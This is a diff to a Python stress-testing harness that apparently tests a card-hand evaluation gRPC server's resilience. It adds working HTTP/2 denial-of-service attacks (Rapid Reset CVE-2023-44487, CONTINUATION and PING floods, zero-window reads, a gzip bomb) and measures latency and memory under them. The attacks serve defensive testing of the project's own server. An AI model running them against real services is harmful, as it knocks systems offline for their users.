@@ -186,6 +186,143 @@ def attack_deadline_flood(target: str, stop: threading.Event) -> None:
                 pass
 
 
+def _connections(target: str, n: int, **kw) -> List[RawConnection]:
+    host, port = _host_port(target)
+    out = []
+    for _ in range(n):
+        try:
+            out.append(RawConnection(host, port, source=ATTACKER, timeout=60, **kw))
+        except OSError:
+            pass
+    return out
+
+
+def _reopen(target: str, conns: List[RawConnection], **kw) -> None:
+    """Replace the connections the server closed (an attacker reconnects)."""
+    for i, c in enumerate(conns):
+        if c.closed.is_set():
+            c.close()
+            fresh = _connections(target, 1, **kw)
+            if fresh:
+                conns[i] = fresh[0]
+
+
+def attack_continuation_flood(target: str, stop: threading.Event) -> None:
+    """4 connections, each a call whose header block never ends: HEADERS without
+    END_HEADERS, then CONTINUATION frames of small complete header fields, as fast as
+    the server reads them (each connection first makes one complete call, so the
+    janitor sees a served connection); a closed connection is opened again."""
+    conns = _connections(target, 4)
+    for c in conns:
+        c.call(EVALUATE, b"", wait=5)
+    while not stop.is_set():
+        for c in conns:
+            if not c.closed.is_set():
+                c.open_continuation_flood(EVALUATE, 16, endless_value=False)
+        _reopen(target, conns)
+    for c in conns:
+        c.close()
+
+
+def attack_watch_flood(target: str, stop: threading.Event) -> None:
+    """16 connections × 16 health Watch streams (no token), reopened when ended."""
+    conns = _connections(target, 16)
+    watch = "/grpc.health.v1.Health/Watch"
+    while not stop.is_set():
+        for c in conns:
+            live = sum(1 for s in getattr(c, "watches", ()) if s not in c.ended)
+            for _ in range(16 - live):
+                sid = c.call(watch, b"", wait=1)
+                if sid:
+                    c.__dict__.setdefault("watches", []).append(sid)
+        _reopen(target, conns)
+        stop.wait(1.0)
+    for c in conns:
+        c.close()
+
+
+#: 3,000 fronts: 48 KB asking a ~96 KB answer.
+_WIDE = pb.EvaluateRequest(
+    shisanshui=ssw.ShisanshuiEvaluateRequest(
+        items=[ssw.ShisanshuiEvaluateItem(row=common_pb2.Cards(cards="As Ks Qs".split()))] * 3000
+    )
+).SerializeToString()
+
+
+def attack_unread_answers(target: str, stop: threading.Event) -> None:
+    """20 connections announcing a window of 0 (they never read), each making calls with
+    ~96 KB answers back to back; a closed connection is opened again."""
+    conns = _connections(target, 20, window=0)
+    while not stop.is_set():
+        for c in conns:
+            if not c.closed.is_set():
+                c.call(EVALUATE, _WIDE, wait=0.05)
+        _reopen(target, conns, window=0)
+    for c in conns:
+        c.close()
+
+
+def attack_rapid_reset(target: str, stop: threading.Event) -> None:
+    """20 connections, each sending HEADERS of an Evaluate then RST_STREAM at once, in
+    batches of 100 streams (CVE-2023-44487); a closed connection is opened again."""
+    from handeval.load.h2raw import RST_STREAM, call_headers, frame
+
+    conns = _connections(target, 20)
+    while not stop.is_set():
+        for c in conns:
+            out = bytearray()
+            for _ in range(100):
+                sid = c.next_stream
+                c.next_stream += 2
+                out += call_headers(sid, EVALUATE, c.authority) + frame(RST_STREAM, 0, sid, b"\x00\x00\x00\x08")
+            c.send(bytes(out))
+        _reopen(target, conns)
+    for c in conns:
+        c.close()
+
+
+def attack_ping_flood(target: str, stop: threading.Event) -> None:
+    """4 connections sending PING frames back to back; reconnecting when closed."""
+    from handeval.load.h2raw import PING, frame
+
+    conns = _connections(target, 4)
+    pings = frame(PING, 0, 0, bytes(8)) * 256
+    while not stop.is_set():
+        for c in conns:
+            if not c.closed.is_set():
+                c.send(pings)
+        _reopen(target, conns)
+    for c in conns:
+        c.close()
+
+
+def attack_gzip_bomb(target: str, stop: threading.Event) -> None:
+    """4 connections sending gzip Evaluate requests that inflate to 32 MiB (~32 KB
+    sent each), back to back."""
+    import gzip
+
+    bomb = gzip.compress(bytes(32 << 20), 9)
+    conns = _connections(target, 4)
+    while not stop.is_set():
+        for c in conns:
+            if not c.closed.is_set():
+                c.call(EVALUATE, bomb, wait=0.2, extra=[("grpc-encoding", "gzip")], compressed=True)
+        _reopen(target, conns)
+    for c in conns:
+        c.close()
+
+
+def attack_bad_encoding(target: str, stop: threading.Event) -> None:
+    """Calls with ``grpc-encoding: br`` (gRPC core logs a line for each), back to back."""
+    conns = _connections(target, 1)
+    while not stop.is_set():
+        for c in conns:
+            c.call(EVALUATE, b"", wait=1, extra=[("grpc-encoding", "br")])
+        _reopen(target, conns)
+    for c in conns:
+        c.close()
+
+
 DECK = [r + s for r in "23456789TJQKA" for s in "shdc"]
 
 
@@ -210,6 +347,13 @@ ATTACKS: List[Tuple[str, Callable[[str, threading.Event], None]]] = [
     ("stream_hold_200_sockets", attack_stream_hold_200_sockets),
     ("garbage_flood", attack_garbage_flood),
     ("deadline_flood", attack_deadline_flood),
+    ("continuation_flood", attack_continuation_flood),
+    ("watch_flood", attack_watch_flood),
+    ("unread_answers", attack_unread_answers),
+    ("rapid_reset", attack_rapid_reset),
+    ("ping_flood", attack_ping_flood),
+    ("gzip_bomb", attack_gzip_bomb),
+    ("bad_encoding", attack_bad_encoding),
 ]
 
 
@@ -312,23 +456,37 @@ def log_lines(path: Path) -> int:
         return sum(1 for _ in f)
 
 
-def run_attacks(a, target: str, log_path: Path) -> None:
+def run_attacks(a, target: str, log_path: Path, pid: int = 0) -> None:
     chosen = [(n, f) for n, f in all_attacks() if not a.only or n in a.only]
     print(
         "| attack | tiny calls p50 / p99 / max, ms (without → with) | calls (failed) | new clients refused "
-        "(longest refusal, s) | server log lines |"
+        "(longest refusal, s) | server log lines | server RSS, MB (idle → most) |"
     )
-    print("|---|---|---|---|---|")
+    print("|---|---|---|---|---|---|")
     for name, fn in chosen:
         base = probe(target, a.seconds)
         stop = threading.Event()
         before = log_lines(log_path)
         t0 = time.monotonic()
+        idle = rss_mb(pid) if pid else float("nan")
         attacker = threading.Thread(target=fn, args=(target, stop), daemon=True)
         attacker.start()
+        sampling = threading.Event()
+
+        peak = [idle]
+
+        def sample(done=sampling, peak=peak):
+            while not done.wait(0.1):
+                peak[0] = max(peak[0], rss_mb(pid))
+
+        sampler = threading.Thread(target=sample, daemon=True)
+        if pid:
+            sampler.start()
         stop.wait(a.warmup)
         got = probe(target, a.seconds)
         stop.set()
+        sampling.set()
+        most = peak[0]
         attacker.join(a.limit)
         lines = log_lines(log_path) - before
         took = time.monotonic() - t0
@@ -336,7 +494,8 @@ def run_attacks(a, target: str, log_path: Path) -> None:
             f"| {name} | {base['p50']:.1f} / {base['p99']:.1f} / {base['max']:.1f} → "
             f"{got['p50']:.1f} / {got['p99']:.1f} / {got['max']:.1f} | {base['calls']} ({base['failed']}) → "
             f"{got['calls']} ({got['failed']}) | {base['new_refused']}/{base['new']} ({base['refused_s']:.2f}) → "
-            f"{got['new_refused']}/{got['new']} ({got['refused_s']:.2f}) | {lines} in {took:.0f} s |",
+            f"{got['new_refused']}/{got['new']} ({got['refused_s']:.2f}) | {lines} in {took:.0f} s | "
+            f"{idle:.0f} → {most:.0f} |",
             flush=True,
         )
         if got["codes"] or base["codes"]:
@@ -477,7 +636,7 @@ def main() -> int:
             time.sleep(0.1)
         t0 = time.monotonic()
         if a.what == "attacks":
-            run_attacks(a, target, log_path)
+            run_attacks(a, target, log_path, proc.pid)
             tracebacks = log_path.read_text(errors="replace").count("Traceback")
             if a.show_log:
                 print(log_path.read_text(errors="replace")[-a.show_log :])
